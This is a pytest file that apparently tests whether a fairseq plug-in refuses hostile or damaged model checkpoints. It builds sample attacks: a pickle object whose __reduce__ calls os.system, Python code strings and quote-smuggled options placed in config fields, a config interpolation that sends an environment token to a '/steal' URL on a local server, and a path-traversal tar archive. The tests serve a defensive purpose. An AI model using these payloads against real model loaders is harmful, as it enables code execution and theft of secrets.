"""Hostile and damaged checkpoints in the released fairseq with the plug-in: nothing runs, opens or fetches.

Each attack leaves a mark where it works: a file, a request to a server on this machine, or a bait that is opened.
"""

import argparse
import contextlib
import copy
import http.server
import importlib
import io
import json
import os
import shutil
import sys
import tarfile
import threading
from pathlib import Path

import pytest
import torch
from fairseq import checkpoint_utils, file_utils
from fairseq.models.transformer_lm import TransformerLanguageModel

import moekit
import moekit.plugin
from moekit import checkpoint
from moekit.bench.shapes import SHAPES
from moekit.checkpoint import options as config
from moekit.checkpoint.branch import history

PLUGIN = Path(moekit.__file__).parent / "plugin"
SENTENCE = "5 6 7 8 9"
SPIED: list[Path] = []
SEEN: list[str] = []


def spy(event: str, args: tuple) -> None:
    """Notes processes and connections, and what is opened in a folder of ``SPIED``, while there is one."""
    if not SPIED:
        return
    if event in ("os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "socket.connect"):
        SEEN.append(f"{event} {args}")
    elif event == "open" and isinstance(args[0], (str, bytes)):
        path = Path(os.path.abspath(os.fsdecode(args[0])))
        SEEN.extend(f"open {path}" for folder in SPIED if path.is_relative_to(folder))


sys.addaudithook(spy)  # for the life of the process


class Trap:
    """What attacks use, and whether they did."""

    def __init__(self, folder: Path, url: str):
        self.mark, self.bait, self.url = folder / "mark", folder / "bait", url
        self.touch = f"__import__('pathlib').Path({str(self.mark)!r}).touch()"
        (self.bait / "evil").mkdir(parents=True)
        (self.bait / "evil" / "__init__.py").write_text(self.touch)
        (self.bait / "secret").write_text("password 1\n")
        shutil.copyfile(
            Path(__file__).parent / "data" / "reference" / "data-bin" / "dict.txt", self.bait / "dict.txt"
        )

    def sprung(self) -> list[str]:
        """What an attack has done."""
        return SEEN + (["mark"] if self.mark.exists() else [])


@pytest.fixture
def trap(tmp_path, monkeypatch):
    monkeypatch.setenv("MY_SECRET_TOKEN", "hunter2")
    # Who has old checkpoints often sets this, and torch.load then trusts every file unless it is told not to.
    monkeypatch.setenv("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "1")
    monkeypatch.setattr(file_utils, "PYTORCH_FAIRSEQ_CACHE", tmp_path / "cache")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            SEEN.append(f"request {self.path}")
            self.send_error(404)

        do_HEAD = do_GET

        def log_message(self, *_):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=[0.01], daemon=True).start()
    found = Trap(tmp_path, f"http://127.0.0.1:{server.server_port}/steal?k=${{oc.env:MY_SECRET_TOKEN}}")
    SEEN.clear()
    SPIED.append(found.bait)
    yield found
    SPIED.clear()
    server.shutdown()
    server.server_close()


def written(reference: Path, folder: Path, change, name: str = "model-rank-0.pt") -> Path:
    """The reference's checkpoint in ``folder``, with one file changed."""
    shutil.copytree(reference / "checkpoint", folder)
    state = checkpoint.read(folder / name)
    # Plain dicts of tensors of their own, as fairseq saves them.
    model = {key: tensor.clone() for key, tensor in state["model"].items()}
    state = copy.deepcopy({**state, "cfg": config.to_dict(state["cfg"], "cfg"), "model": model})
    change(state)
    (folder / name).unlink()
    torch.save(state, folder / name)
    return folder


def hub(reference, folder: Path, **options):
    data = str((reference / "data-bin").resolve())
    return TransformerLanguageModel.from_pretrained(
        str(folder), data_name_or_path=data, user_dir=str(PLUGIN), **options
    )


# ------------------------------------------------------------------------------------ attacks by what cfg says

PADS = {"left_pad_target": "0", "lang_pairs": "a-b", "source_lang": None, "target_lang": None}


def task(name: str, **options):
    """The file names another task of fairseq, whose options are Python to evaluate."""

    def change(state, trap):
        told = {key: value(trap) if callable(value) else value for key, value in options.items()}
        state["cfg"]["task"] |= PADS | {"_name": name, "task": name, "left_pad_source": trap.touch} | told

    return change


def flat(**options):
    """The same in the older form: one flat ``args``."""

    def change(state, trap):
        model, own = config.options_of(state, "")
        told = {key: value(trap) if callable(value) else value for key, value in options.items()}
        state |= {"cfg": None, "args": argparse.Namespace(**(own | model | told))}

    return change


def section(name: str, **options):
    """Options of one section of ``cfg``; a value may be a function of the trap."""

    def change(state, trap):
        told = {key: value(trap) if callable(value) else value for key, value in options.items()}
        kept = {} if "_name" in options and name != "model" else state["cfg"].get(name, {})
        state["cfg"][name] = kept | told

    return change


def nested_keys(state, trap):
    odd = {"__class__": trap.touch, 7: trap.touch, "": {"": [trap.touch]}, ("a",): 1, "_parent": trap.touch}
    for part in ("model", "task", "common"):
        state["cfg"][part] |= odd
    state["cfg"] |= odd


def everywhere(state, trap):
    """Every text in the file is an interpolation, save what the model's options are."""
    for name, part in state["cfg"].items():
        if isinstance(part, dict) and name not in ("model", "task"):
            part |= {key: trap.url for key, value in part.items() if isinstance(value, str)}


def evil(trap) -> str:
    return str(trap.bait / "evil")


def secret(trap) -> str:
    return str(trap.bait / "secret")


# Those fairseq would follow; the checkpoint's own options stay right, so the model works as if nothing was there.
DROPPED = {
    "multilingual_translation": task("multilingual_translation"),
    "online_backtranslation": task(
        "online_backtranslation", mono_langs="a,b", valid_lang_pairs="a-b", lambda_bt="1", lambda_dae="0"
    ),
    "translation_multi_simple_epoch": task(
        "translation_multi_simple_epoch", langs="a,b", lang_dict=None, enable_lang_ids=False
    ),
    "audio_pretraining": task("audio_pretraining", post_save_script=evil),
    "args": flat(task="multilingual_translation", left_pad_source=lambda trap: trap.touch, **PADS),
    "args: user_dir": flat(task="language_modeling", user_dir=evil),
    "args: replace_unk": flat(task="language_modeling", replace_unk=secret),
    "args: bpe": flat(
        task="language_modeling", bpe="gpt2", gpt2_encoder_json=lambda trap: trap.url, gpt2_vocab_bpe=secret
    ),
    "args: quotes": flat(
        task="language_modeling", plasma_path=lambda trap: "\\', common.user_dir=" + evil(trap)
    ),
    "bpe: an address": section(
        "bpe", _name="gpt2", gpt2_encoder_json=lambda trap: trap.url, gpt2_vocab_bpe=lambda trap: trap.url
    ),
    "bpe: a file": section("bpe", _name="gpt2", gpt2_encoder_json=secret, gpt2_vocab_bpe=secret),
    "bpe: sentencepiece": section("bpe", _name="sentencepiece", sentencepiece_model=secret),
    "tokenizer": section("tokenizer", _name="moses", source_lang="en", target_lang=secret),
    "tokenizer: unknown": section("tokenizer", _name="os.system"),
    "scoring": section("scoring", _name="wer", wer_tokenizer=secret),
    "replace_unk": section("generation", replace_unk=secret),
    "lm_path": section("generation", lm_path=secret),
    "user_dir": section("common", user_dir=evil),
    "quantization": section("common", quantization_config_path=secret),
    "plasma": section("task", use_plasma_view=True, plasma_path=secret, data=lambda trap: str(trap.bait)),
    "criterion": section(
        "criterion", _name="ctc", wer_args=lambda trap: trap.touch, zero_infinity=True, post_process="letter"
    ),
    "optimizer": section("optimizer", _name="adam", adam_betas=lambda trap: trap.touch),
    "checkpoint": section("checkpoint", restore_file=secret, finetune_from_model=secret),
    "ema": section("ema", ema_seed_model=secret),
    "characters": section("model", character_filters=lambda trap: trap.touch),
    "interpolations everywhere": everywhere,
}


@pytest.mark.parametrize("attack", DROPPED.values(), ids=DROPPED)
def test_what_cfg_says_beyond_the_model_is_not_heard(attack, reference, trap, tmp_path):
    wanted = hub(reference, reference / "checkpoint").score(SENTENCE)["positional_scores"]
    folder = written(reference, tmp_path / "model", lambda state: attack(state, trap))
    try:
        found = hub(reference, folder).score(SENTENCE)["positional_scores"]
    finally:
        assert not trap.sprung()
    assert torch.equal(found, wanted)


@pytest.mark.parametrize("attack", ["plasma", "multilingual_translation", "bpe: an address"])
def test_without_data_the_dictionary_is_the_one_beside_the_checkpoint(attack, reference, trap, tmp_path):
    folder = written(reference, tmp_path / "model", lambda state: DROPPED[attack](state, trap))
    shutil.copyfile(reference / "data-bin" / "dict.txt", folder / "dict.txt")
    _, cfg, found = checkpoint_utils.load_model_ensemble_and_task([str(folder)])
    assert not trap.sprung()
    assert (cfg.task.data, len(found.dictionary)) == (str(folder), 200)


INTERPOLATION = "${oc.env:MY_SECRET_TOKEN}"
REFUSED = {
    "keys that are no names": nested_keys,
    "of the model": section("model", activation_fn=INTERPOLATION),
    "a flag of the model": section("model", moe_top1_expert=INTERPOLATION),
    "mandatory": section("model", decoder_normalize_before="???"),
    "nested": section("model", share_decoder_input_output_embed=[{"_target_": "os.system"}]),
    "of the task": section("task", sample_break_mode=INTERPOLATION),
    "a kind of the task": section("task", tokens_per_sample="many"),
    "a word of the task": section("task", shorten_method="__import__('os')"),
    "a batch": section("dataset", batch_size=INTERPOLATION),
    "an empty batch": section("dataset", batch_size=0),
    "a capacity": section("model", moe_eval_capacity_token_fraction="half"),
    "a capacity that is no number": section("model", moe_eval_capacity_token_fraction=float("nan")),
    "an infinite capacity": section("model", moe_eval_capacity_token_fraction=float("inf")),
    "a capacity that is a flag": section("model", moe_eval_capacity_token_fraction=True),
    "a capacity by its environment": section("model", moe_eval_capacity_token_fraction=INTERPOLATION),
    "args": flat(task="language_modeling", activation_fn=INTERPOLATION),
    "characters": section(
        "model",
        character_embeddings=True,
        character_filters=lambda trap: trap.touch,
        character_embedding_dim=4,
    ),
    "another target": section("task", self_target=True),
    "another model": section("model", _name="lightconv_lm", character_filters=lambda trap: trap.touch),
}


@pytest.mark.parametrize("attack", REFUSED.values(), ids=REFUSED)
def test_an_option_of_the_model_or_the_task_is_a_plain_value(attack, reference, trap, tmp_path):
    folder = written(reference, tmp_path / "model", lambda state: attack(state, trap))
    try:
        with pytest.raises(ValueError) as told:
            hub(reference, folder)
    finally:
        assert not trap.sprung()
    assert "hunter2" not in str(told.value) and len(str(told.value).splitlines()) == 1


def test_an_interpolation_within_the_file_is_resolved(reference, tmp_path):
    def change(state):
        state["cfg"]["task"]["tokens_per_sample"] = 33
        state["cfg"]["model"] |= {
            "max_target_positions": "${task.max_target_positions}",
            "tokens_per_sample": "${task.tokens_per_sample}",
        }

    lm = hub(reference, written(reference, tmp_path / "model", change))
    assert lm.models[0].max_positions() == 33
    assert lm.cfg.task.tokens_per_sample == 33


def test_every_option_that_the_model_reads_is_kept_and_no_other():
    from moekit.plugin import options

    read = set()

    class Recorder(dict):
        def get(self, key, default=None):
            read.add(key)
            return super().get(key, default)

        def __getitem__(self, key):
            read.add(key)
            return super().__getitem__(key)

        def __contains__(self, key):
            read.add(key)
            return super().__contains__(key)

    config.from_fairseq(Recorder(), {}, vocab_rows=9, before_final_norm=False)
    assert {*options.MODEL, *config.REFUSED, "_name", "arch"} == read
    assert set(options.TASK) == set(
        """sample_break_mode tokens_per_sample output_dictionary_size self_target future_target past_target
        add_bos_token max_target_positions shorten_method shorten_data_split_list pad_to_fixed_length
        pad_to_fixed_bsz""".split()
    )


# ------------------------------------------------------------------------------------ attacks by the file itself


class Command:
    """An object whose pickle is a call of os.system."""

    def __init__(self, mark: Path):
        self.mark = mark

    def __reduce__(self):
        return os.system, (f"touch {self.mark}",)


def characters(trap, key: str = "decoder.embed_tokens.char_embeddings.weight") -> dict:
    """A dense model, whose character filters are Python that fairseq evaluates."""
    cfg = json.loads((Path(moekit.__file__).parent / "checkpoint" / "branch_cfg.json").read_text())
    cfg["model"] |= {
        "_name": "transformer_lm",
        "character_embeddings": True,
        "character_filters": trap.touch,
        "moe_freq": 0,
    }
    model = {key: torch.zeros(200, 32), "decoder.version": torch.tensor([3.0])}
    extra = {"epoch": 1, "train_iterator": {"epoch": 1}}
    return {
        "args": None,
        "cfg": cfg,
        "model": model,
        "optimizer_history": history(SHAPES["dense-tiny"]),
        "extra_state": extra,
    }


def single(reference, folder, trap):
    folder.mkdir()
    torch.save(characters(trap), folder / "model.pt")


def single_with_words(reference, folder, trap):
    folder.mkdir()
    torch.save(characters(trap, "decoder.embed_tokens.weight"), folder / "model.pt")


def beside_broken(reference, folder, trap):
    shutil.copytree(reference / "checkpoint", folder)
    torch.save({"model": {"x": 7}}, folder / "model-shared.pt")
    torch.save(characters(trap), folder / "model.pt")


def beside_a_gap(reference, folder, trap):
    shutil.copytree(reference / "checkpoint", folder)
    (folder / "model-rank-1.pt").unlink()
    torch.save(characters(trap), folder / "model.pt")


def pickled_single(reference, folder, trap):
    folder.mkdir()
    torch.save(characters(trap) | {"extra_state": Command(trap.mark)}, folder / "model.pt")


def pickled_shared(reference, folder, trap):
    written(reference, folder, lambda state: state.update(extra_state=Command(trap.mark)), "model-shared.pt")
    torch.save(characters(trap) | {"extra_state": Command(trap.mark)}, folder / "model.pt")


def pickled_rank(reference, folder, trap):
    written(reference, folder, lambda state: state.update(cfg=Command(trap.mark)), "model-rank-3.pt")
    torch.save(characters(trap) | {"extra_state": Command(trap.mark)}, folder / "model.pt")


def bare_pickle(reference, folder, trap):
    import pickle

    folder.mkdir()
    (folder / "model.pt").write_bytes(pickle.dumps(Command(trap.mark)))


def legacy(reference, folder, trap):
    folder.mkdir()
    state = characters(trap) | {"extra_state": Command(trap.mark)}
    torch.save(state, folder / "model.pt", _use_new_zipfile_serialization=False)


def translation(reference, folder, trap):
    folder.mkdir()
    state = characters(trap, "decoder.embed_tokens.weight")
    state["cfg"]["model"] |= {"_name": "transformer"}
    task("multilingual_translation")(state, trap)
    torch.save(state, folder / "model.pt")


FILES = {
    "character_filters, alone": (single, "no shared part of 'model'"),
    "character_filters and words": (single_with_words, "character embeddings"),
    "character_filters beside a broken shared file": (beside_broken, "expected a tensor"),
    "character_filters beside a missing rank": (beside_a_gap, "lacks model-rank-1.pt"),
    "os.system in a single file": (pickled_single, "posix.system"),
    "os.system in the shared file": (pickled_shared, "posix.system"),
    "os.system in a rank's file": (pickled_rank, "posix.system"),
    "os.system in a pickle": (bare_pickle, "posix.system|not a readable checkpoint"),
    "os.system in an old file": (legacy, "posix.system"),
    "another model": (translation, "'transformer'.*transformer_lm"),
}


@pytest.mark.parametrize("name", ["", "model.pt"])
@pytest.mark.parametrize(("write", "told"), FILES.values(), ids=FILES)
def test_a_hostile_file_is_refused_by_moekit(write, told, name, reference, trap, tmp_path):
    write(reference, tmp_path / "model", trap)
    try:
        with pytest.raises(ValueError, match=told) as error:
            hub(reference, tmp_path / "model", checkpoint_file=name)
    finally:
        assert not trap.sprung()
    assert "language models ('transformer_lm') only" in "".join(error.value.__notes__)
    assert "weights_only" not in str(error.value)


@pytest.mark.parametrize(
    "load",
    [
        lambda path: checkpoint_utils.load_checkpoint_to_cpu(path),
        lambda path: checkpoint_utils.load_checkpoint_to_cpu(path, load_on_all_ranks=False),
        lambda path: checkpoint_utils.load_ema_from_checkpoint(path),
        lambda path: checkpoint_utils.load_model_ensemble([path], suffix="-part"),
        lambda path: checkpoint_utils.load_model_ensemble([path], num_shards=2, strict=False),
        lambda path: checkpoint_utils.load_pretrained_component_from_model(torch.nn.Linear(1, 1), path),
    ],
)
def test_every_door_of_checkpoint_utils(load, reference, trap, tmp_path):
    pickled_single(reference, tmp_path / "model", trap)
    for other in ("model-part.pt", "model_part0.pt", "model-shard0.pt"):
        shutil.copyfile(tmp_path / "model" / "model.pt", tmp_path / "model" / other)
    try:
        with pytest.raises(ValueError):
            load(str(tmp_path / "model" / "model.pt"))
    finally:
        assert not trap.sprung()
    (tmp_path / "model" / "model.pt").unlink()
    with pytest.raises((ValueError, OSError)):
        load(str(tmp_path / "model" / "model.pt"))
    assert not trap.sprung()


def test_a_name_imported_before_the_plug_in_is_replaced_too():
    from types import ModuleType

    from moekit.plugin import loading

    wrapped = checkpoint_utils.load_checkpoint_to_cpu
    early = ModuleType("early")
    early.load_checkpoint_to_cpu = wrapped.__wrapped__
    sys.modules["early"] = early
    try:
        loading.replace(wrapped)
        assert early.load_checkpoint_to_cpu is wrapped
    finally:
        del sys.modules["early"]


def test_an_archive_is_not_unpacked(trap, tmp_path):
    with tarfile.open(tmp_path / "model.tar.gz", "w:gz") as archive:
        for name in ("model/a", f"model/../../{'../' * 20}{trap.mark}"):
            archive.addfile(tarfile.TarInfo(name), io.BytesIO())
    for name in (tmp_path / "model.tar.gz", trap.url, tmp_path / "nothing"):
        with pytest.raises(ValueError, match="not a folder"):
            TransformerLanguageModel.from_pretrained(str(name))
    assert (tmp_path / "model.tar.gz").exists()
    assert not trap.sprung()


# ------------------------------------------------------------------------------------ the command-line tools

TOOLS = {
    "eval_lm": ["--gen-subset", "valid", "--batch-size", "1", "--num-workers", "0", "--max-valid-steps", "0"],
    # It follows the task of the file, and the name typed here does not keep that from an attack.
    "validate": [
        *("--task", "multilingual_translation", "--valid-subset", "valid", "--batch-size", "8"),
        *("--num-workers", "0"),
    ],
    "interactive": ["--task", "language_modeling", "--beam", "1", "--max-len-b", "6"],
    "generate": [
        *("--task", "language_modeling", "--gen-subset", "valid", "--sample-break-mode", "eos"),
        *("--batch-size", "64", "--num-workers", "0", "--beam", "1", "--max-len-b", "2"),
    ],
}


@pytest.fixture(params=TOOLS)
def tool(request, reference, monkeypatch):
    """A tool of fairseq in this process: a function of the checkpoint."""
    module = importlib.import_module(f"fairseq_cli.{request.param}")
    data = str((reference / "data-bin").resolve())

    def run(path: Path) -> str:
        arguments = [data, "--path", str(path), "--user-dir", str(PLUGIN), "--cpu", *TOOLS[request.param]]
        monkeypatch.setattr(sys, "argv", [request.param, *arguments])
        monkeypatch.setattr(sys, "stdin", io.StringIO("5 6 7\n"))
        said = io.StringIO()
        with contextlib.redirect_stdout(said):
            module.cli_main()
        return said.getvalue()

    return run


@pytest.mark.parametrize("attack", ["multilingual_translation", "args", "bpe: an address", "criterion"])
def test_a_tool_does_not_hear_what_cfg_says(attack, tool, reference, trap, tmp_path):
    folder = written(reference, tmp_path / "model", lambda state: DROPPED[attack](state, trap))
    try:
        tool(folder / "model.pt")
    finally:
        assert not trap.sprung()


@pytest.mark.parametrize(
    "attack",
    [
        "character_filters, alone",
        "character_filters beside a broken shared file",
        "character_filters beside a missing rank",
        "os.system in the shared file",
        "another model",
    ],
)
def test_a_tool_meets_moekits_refusal(attack, tool, reference, trap, tmp_path):
    write, told = FILES[attack]
    write(reference, tmp_path / "model", trap)
    try:
        with pytest.raises(ValueError, match=told):
            tool(tmp_path / "model" / "model.pt")
    finally:
        assert not trap.sprung()


# ------------------------------------------------------------------------------------ honest damage


def cut(folder: Path) -> None:
    path = folder / "model-shared.pt"
    path.write_bytes(path.read_bytes()[:-1000])


def missing(folder: Path) -> None:
    (folder / "model-rank-2.pt").unlink()


def no_shared(folder: Path) -> None:
    (folder / "model-shared.pt").unlink()


def web_page(folder: Path) -> None:
    (folder / "model-rank-1.pt").write_text("<html>no such file</html>")


DAMAGE = {
    "cut": (cut, "model-shared.pt is not a readable checkpoint"),
    "missing rank": (missing, "lacks model-rank-2.pt"),
    "missing shared": (no_shared, "no shared part of 'model'"),
    "web page": (web_page, "model-rank-1.pt is not a readable checkpoint.*web page"),
}


@pytest.mark.parametrize("name", ["", "model.pt", "model-shared.pt", "model-rank-0.pt"])
@pytest.mark.parametrize(("damage", "told"), DAMAGE.values(), ids=DAMAGE)
def test_damage_is_told_in_moekits_words(damage, told, name, reference, tmp_path):
    shutil.copytree(reference / "checkpoint", tmp_path / "model")
    damage(tmp_path / "model")
    with pytest.raises(ValueError, match=told):
        checkpoint_utils.load_model_ensemble_and_task([str(tmp_path / "model" / name)])
